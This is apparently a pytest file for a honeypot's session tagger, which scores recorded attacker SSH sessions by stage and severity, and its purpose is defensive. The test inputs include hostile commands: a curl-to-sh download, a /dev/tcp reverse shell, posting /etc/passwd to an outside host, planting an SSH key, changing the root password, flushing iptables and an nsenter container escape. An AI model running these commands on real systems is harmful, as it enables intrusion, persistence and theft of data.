"""The story of a session: stages, one line, severity with its reason; by hand-made sessions and real rules."""

from __future__ import annotations

import json
from pathlib import Path
from time import perf_counter
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.bounds import BITES
from decnet.bus.base import Event
from decnet.events.session import SessionEnded
from decnet.runtime.received import Received
from decnet.ttp.acts import Mark
from decnet.ttp.course import moves_of
from decnet.ttp.events import tagger_events
from decnet.ttp.moves import MAX_DEEDS, MAX_NAMES, MAX_PHASES, MAX_PLAYS, STORY_CAPPED, Step, Writer
from decnet.ttp.offline import OfflineTagger
from decnet.ttp.offline_sessions import tag_session
from decnet.ttp.stages import STAGES, phase_of, stage_of
from decnet.ttp.story import FLOOD, LINE_CHARS, Story, story_of

RULES = Path(__file__).parents[2] / "rules" / "ttp"
SHA = "94f2e4d8" + "0" * 56
IN = {"auth": {"success": True, "fail_count": 1, "usernames": ["root"]}}


def glyphs(line: str) -> str:
    """A line as it is shown."""
    return line.replace(">", "\u203a").replace("*", "\u00d7")


@pytest.fixture(scope="module")
def tagger() -> OfflineTagger:
    return OfflineTagger(RULES)


def session(lines: list[str], **more: Any) -> SessionEnded:
    commands = [{"id": f"s#cmd{n}", "command_text": text, "ts": 100.0 + n} for n, text in enumerate(lines)]
    return SessionEnded.parse(
        {"session_id": "s", "attacker_ip": "192.0.2.7", "ended_at": 900.0, "commands": commands, **more}, []
    )


def events_of(record: SessionEnded) -> Any:
    return tagger_events(Received(Event("attacker.session.ended", {}, id="e"), record))


def moves(tagger: OfflineTagger | None, lines: list[str], **more: Any) -> Any:
    record = session(lines, **more)
    events = events_of(record)
    marks: dict[str, list[Mark]] = {}
    for event in events if tagger is not None else ():
        assert tagger is not None
        asked = {"source_kind": event.source_kind, "source_id": event.source_id, "payload": event.payload}
        for tag in tagger.tag_event(asked, timeless=True):
            technique = tag["sub_technique_id"] or tag["technique_id"]
            mark = Mark(technique, tag["tactic"], tag["matched"], tag["confidence"])
            marks.setdefault(event.source_id, []).append(mark)
    return moves_of(record, events, marks)


def told(tagger: OfflineTagger | None, lines: list[str], **more: Any) -> Story:
    return story_of(moves(tagger, lines, **more))


HAND_MADE: list[tuple[str, list[str], dict[str, Any], str, str, str]] = [
    ("knocks", [], {"auth": {"success": False, "fail_count": 9, "usernames": ["root"]}}, "info", "knocked", ""),
    ("a weakness that was tried", [], {"exploits": [{"cve": "CVE-2026-24061", "name": "USER", "value": "-f root"}]},
     "info", "tried CVE-2026-24061", "access"),
    ("logs in, does nothing", [], IN, "low", "logged in, did nothing", "access"),
    ("looks", ["uname -a", "cat /proc/cpuinfo", "w", "exit"], IN, "low", "logged in and looked", "access > recon 3 > leave"),
    ("hides its history", ["unset HISTFILE", "w"], IN, "low", "logged in and looked", "access > blind > recon"),
    ("fetches, does not run", ["wget http://203.0.113.9/a.sh"], IN, "medium", "fetched a.sh, not run", "access > fetch a.sh"),
    ("fails to fetch", ["wget http://203.0.113.9/a.sh"],
     {**IN, "downloads": [{"url": "http://203.0.113.9/a.sh", "failed": True}]}, "medium", "tried to fetch a.sh",
     "access > fetch a.sh"),
    ("uploads only", [], {**IN, "uploads": [{"filename": "/tmp/sshd", "sha256": SHA, "ts": 101.0}]},
     "medium", "uploaded sshd 94f2e4d8, not run", "access > fetch sshd"),
    ("tunnels", [], {**IN, "forwards": [{"host": "198.51.100.7", "port": 443}]}, "medium", "tunnelled to 198.51.100.7:443",
     "access > tunnel"),
    ("uploads and runs", ["chmod +x /tmp/sshd", "/tmp/sshd", "rm /tmp/sshd"],
     {**IN, "uploads": [{"filename": "/tmp/sshd", "sha256": SHA, "ts": 99.0}]}, "high", "uploaded and ran sshd 94f2e4d8",
     "access > fetch+arm+run sshd > clean"),
    ("fetches, arms, runs, hides, cleans",
     ["cd /tmp; wget http://203.0.113.9/m.bot; chmod 777 m.bot", "mv m.bot k; ./k", "rm -f k"], IN, "high",
     "fetched and ran k", "access > fetch+arm+run+hide m.bot,k > clean"),
    ("one line to a shell", ["curl -s http://203.0.113.9/x.sh | sh"], IN, "high", "fetched and ran x.sh",
     "access > fetch+run x.sh"),
    ("a shell to the outside", ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], IN, "high", "opened a reverse shell",
     ""),
    ("persists", ["mkdir -p ~/.ssh; echo ssh-rsa AAAAB3NzaC1yc2E= x > ~/.ssh/authorized_keys"], IN, "high",
     "persisted (SSH key)", ""),
    ("changes the password", ["echo root:Xy12 | chpasswd"], IN, "high", "changed credentials (password)", "access > creds"),
    ("switches the firewall off", ["iptables -F"], IN, "high", "switched off defences (firewall)", "access > blind"),
    ("goes on to another host", ["ssh root@10.0.0.5"], IN, "critical", "attacked other hosts: 10.0.0.5", "access > spread"),
    ("reaches inner hosts through the decoy", [], {**IN, "forwards": [{"host": "10.0.0.5", "port": 445}]}, "critical",
     "attacked other hosts: 10.0.0.5:445", "access > spread"),
    ("leaves the container", ["nsenter -t 1 -m -u -i -n sh"], IN, "critical",
     "reached for the decoy's own host (out of the container)", "access > privesc"),
]  # fmt: skip


@pytest.mark.parametrize("name", [case[0] for case in HAND_MADE])
def test_a_session_is_judged_by_what_was_achieved(name: str, tagger: OfflineTagger) -> None:
    _, lines, more, severity, reason, line = next(case for case in HAND_MADE if case[0] == name)
    story = told(tagger, lines, **more)
    assert (story.severity, story.reason) == (severity, reason)
    if line:
        assert story.line == glyphs(line)
    assert len(story.line) <= LINE_CHARS


def test_a_phase_is_told_as_the_contract_has_it(tagger: OfflineTagger) -> None:
    lines = [
        "cat /proc/mounts",
        "tftp -g -r mips.bot 203.0.113.9",
        "chmod 777 mips.bot",
        "./mips.bot",
        "rm mips.bot",
    ]
    phases = told(tagger, lines).phases
    assert [phase["phase"] for phase in phases] == ["recon", "deliver", "clean"]
    assert phases[1] == {
        "phase": "deliver", "from": 2, "to": 4, "n": 3, "stages": {"fetch": 1, "arm": 1, "run": 1},
        "what": ["mips.bot"], "via": ["tftp"], "techniques": ["T1105", "T1222.002", "T1059.004"],
    }  # fmt: skip
    assert (phases[2]["from"], phases[2]["to"], phases[2]["techniques"]) == (5, 5, ["T1070.004"])


def test_cycles_are_folded_in_the_line_and_in_the_phases(tagger: OfflineTagger) -> None:
    lines = [
        f"{how} http://203.0.113.9/{name}; sh {name}; rm -f {name}"
        for how, name in (("wget", "bins.sh"), ("curl -O", "tftp1.sh"))
    ]
    story = told(tagger, lines)
    assert story.line == glyphs("(fetch+run>clean)*2 bins.sh,tftp1.sh")
    assert [(p["phase"], p["times"], p["cycle"], p["n"], p["from"], p["to"]) for p in story.phases] == [
        ("deliver", 2, 1, 4, 1, 2),
        ("clean", 2, 1, 2, 1, 2),
    ]


def test_a_line_that_is_too_long_is_told_shorter_never_cut_in_a_phase(tagger: OfflineTagger) -> None:
    lines = [
        "w", "wget http://203.0.113.9/a.sh", "iptables -F", "echo a:b | chpasswd", "rm a.sh", "crontab -r", "id",
        "iptables -F", "wget http://203.0.113.9/b.sh; sh b.sh", "echo a:b | chpasswd", "rm b.sh", "uname -a", "exit",
    ]  # fmt: skip
    story = told(tagger, lines)
    assert len(story.phases) == len(lines)
    assert len(story.line) <= LINE_CHARS
    assert story.line.split(glyphs(" > "))[-1] == "leave"
    assert story.line.startswith(glyphs("recon 3 > fetch"))


def test_groups_that_do_other_things_are_not_told_as_one_that_is_repeated(tagger: OfflineTagger) -> None:
    lines = ["wget http://203.0.113.9/a.sh", "rm a.sh", "wget http://203.0.113.9/b.sh; sh b.sh", "rm b.sh"]
    assert told(tagger, lines).line == glyphs("fetch a.sh > clean > fetch+run b.sh > clean")


def test_what_is_sent_out_is_not_told_as_fetched(tagger: OfflineTagger) -> None:
    for line in (
        "curl -F f=@/etc/passwd http://203.0.113.9/up.php",
        "wget --post-file /etc/passwd http://203.0.113.9/up.php",
    ):
        story = told(None, [line])
        assert "up.php" not in story.reason
        assert "fetch" not in story.line


def test_a_tag_whose_text_is_written_otherwise_stands_at_its_program(tagger: OfflineTagger) -> None:
    record = session(["cd /tmp; rm -rf .k; wget http://203.0.113.9/k.sh; sh k.sh"])
    marks = {"s#cmd0": [Mark("T1070.004", "TA0005", "rm -rf /tmp/.k")]}
    story = story_of(moves_of(record, events_of(record), marks))
    assert story.line == glyphs("clean > fetch+run k.sh")


def test_a_write_probe_prepares_and_is_no_look_between(tagger: OfflineTagger) -> None:
    lines = ["uname -a", "echo 77 > /var/tmp/.p", "rm -f /var/tmp/.p"]
    story = told(tagger, lines)
    assert [phase["phase"] for phase in story.phases] == ["recon", "deliver", "clean"]
    assert "T1083" in story.phases[1]["techniques"]


def test_the_use_of_a_shell_alone_runs_nothing(tagger: OfflineTagger) -> None:
    for lines in (["/ip cloud print"], ["enable", "system", "shell", "sh"], ["sh -c 'uname -a'"]):
        story = told(tagger, lines)
        assert "run" not in story.line
        assert story.severity == "low"


def test_a_command_of_several_lines_counts_once_and_stands_at_its_first(tagger: OfflineTagger) -> None:
    joined = [
        {"id": "s#cmd1+1", "command_text": "wget \\\nhttp://203.0.113.9/a.sh", "lines": ["s#cmd1", "s#cmd2"]}
    ]
    story = told(tagger, ["id", "wget \\", "http://203.0.113.9/a.sh", "sh a.sh"], joined=joined)
    assert story.phases[1]["from"] == 2
    assert story.phases[1]["stages"] == {"fetch": 1, "run": 1}


def test_what_a_transfer_of_the_sensor_and_a_command_say_of_one_file_is_one_fetch(
    tagger: OfflineTagger,
) -> None:
    story = told(
        tagger,
        ["wget http://203.0.113.9/a.sh", "sh a.sh"],
        downloads=[{"url": "http://203.0.113.9/a.sh", "sha256": SHA, "ts": 100.5}],
    )
    assert story.reason == "fetched and ran a.sh 94f2e4d8"
    assert story.phases[0]["stages"] == {"fetch": 1, "run": 1}


def test_a_weak_tag_is_told_but_nothing_that_was_achieved() -> None:
    record = session(["touch /etc/cron.d/x"])
    for confidence, severity in ((0.49, "low"), (0.5, "high")):
        marks = {"s#cmd0": [Mark("T1053.003", "TA0003", "", confidence)]}
        story = story_of(moves_of(record, events_of(record), marks))
        assert (story.line, story.severity) == ("persist", severity)


@pytest.mark.parametrize(("times", "severity"), [(FLOOD - 1, "medium"), (FLOOD, "critical")])
def test_a_flood_of_requests_to_one_host_is_an_attack_on_it(times: int, severity: str) -> None:
    assert told(None, [f"curl -s http://203.0.113.9/?{n} -o x" for n in range(times)]).severity == severity


def test_hostile_names_are_printable_and_short() -> None:
    for name in ("\x1b[2Jboo", "x" * 100_000, "a\u202eb"):
        story = told(None, [f"wget 'http://203.0.113.9/{name}'", f"sh '{name}'"])
        said = json.dumps([story.phases, story.line, story.reason], ensure_ascii=False)
        assert "\x1b" not in said
        assert "\u202e" not in said
        assert len(said) < 1000
        assert story.severity == "high"
        assert len(story.line) <= LINE_CHARS


# --- bounds


def test_phases_beyond_the_bound_lose_their_order_not_their_number() -> None:
    def phases(changes: int) -> tuple[int, int, int]:
        before, writer = BITES[STORY_CAPPED], Writer()
        for n in range(changes):
            writer.step(Step(("recon", "clean")[n % 2], n + 1))
        found = writer.done().phases
        return len(found), sum(phase.n for phase in found), BITES[STORY_CAPPED] - before

    assert phases(MAX_PHASES) == (MAX_PHASES, MAX_PHASES, 0)
    # Of the five beyond, two go on with the last phase as they would below the bound.
    assert phases(MAX_PHASES + 5) == (MAX_PHASES, MAX_PHASES + 5, 3)


@pytest.mark.parametrize(
    ("bound", "put"),
    [
        (MAX_PLAYS, lambda writer, n: writer.play(f"p{n}")),
        (MAX_DEEDS, lambda writer, n: writer.deed("ran", f"f{n}", "fetched")),
        (MAX_NAMES, lambda writer, n: writer.step(Step("fetch", n, (f"f{n}",)))),
    ],
)
def test_bounds_of_a_story_are_counted_where_they_bite(bound: int, put: Any) -> None:
    before, writer = BITES[STORY_CAPPED], Writer()
    for n in range(bound):
        put(writer, n)
    assert BITES[STORY_CAPPED] == before
    put(writer, bound)
    assert BITES[STORY_CAPPED] == before + 1


LINES = st.lists(
    st.one_of(
        st.text(max_size=60),
        st.sampled_from(
            ["wget http://h/a.sh", "sh a.sh", "rm a.sh", "scp -t /tmp/x", "C0755 1 x", "passwd", "$N", "exit"]
        ),
    ),
    max_size=20,
)
MARK = st.builds(
    Mark,
    st.sampled_from(["T1059.004", "T1105", "T1021", "T9999", "", "T1070.004", "T1098"]),
    st.sampled_from(["TA0002", "TA0011", "TA0005", "x"]),
    st.text(max_size=10),
    st.floats(0, 1),
)


@settings(max_examples=150, deadline=None)
@given(LINES, st.lists(MARK, max_size=4), st.booleans())
def test_a_story_never_raises_and_knows_its_words(
    lines: list[str], marks: list[Mark], logged_in: bool
) -> None:
    record = session(lines, **(IN if logged_in else {}))
    said = {f"s#cmd{n}": marks for n in range(0, len(lines), 2)} | {"s": marks}
    story = story_of(moves_of(record, events_of(record), said))
    assert story.severity in ("critical", "high", "medium", "low", "info")
    assert story.reason
    assert len(story.line) <= LINE_CHARS
    assert {stage for phase in story.phases for stage in phase["stages"]} <= STAGES
    assert all(phase_of(stage) == phase["phase"] for phase in story.phases for stage in phase["stages"])
    json.dumps(story.phases)


def test_a_story_is_linear_in_the_session() -> None:
    def cost(lines: int) -> float:
        typed = [
            f"wget http://h/a{n}.sh; sh a{n}.sh; rm a{n}.sh" if n % 2 else "uname -a" for n in range(lines)
        ]
        record = session(typed)
        events = events_of(record)
        best = float("inf")
        for _ in range(3):
            start = perf_counter()
            story_of(moves_of(record, events, {}))
            best = min(best, perf_counter() - start)
        return best

    assert cost(8000) < 16 * max(cost(1000), 0.002)


def test_a_technique_has_the_stage_of_its_own_else_of_its_parent_else_of_its_tactic() -> None:
    found = json.loads(
        (Path(__file__).parents[1] / "fixtures" / "cases" / "sessions.json").read_text("utf-8")
    )
    assert found
    assert stage_of("T1070.004", "TA0005") == "clean"
    assert stage_of("T1070.002", "TA0005") == "blind"
    assert stage_of("T1222.002", "TA0005") == "arm"
    assert stage_of("T1110.001", "TA0006") == "spread"
    assert stage_of("T1110.001", "TA0006", typed=False) == "access"
    assert stage_of("T0000", "TA0003") == "persist"
    assert stage_of("T0000", "TA9999") == "recon"


def test_an_answer_of_tagging_whole_sessions_has_story_severity_and_playbook(tagger: OfflineTagger) -> None:
    answer = tag_session(tagger, {"session": 7, "commands": ["wget http://203.0.113.9/a.sh", "sh a.sh"]})
    assert answer["severity"] == "high"
    assert answer["severity_reason"] == "fetched and ran a.sh"
    assert answer["story_line"] == "fetch+run a.sh"
    assert answer["story"][0]["stages"] == {"fetch": 1, "run": 1}
    assert answer["playbook"].startswith("pb-")
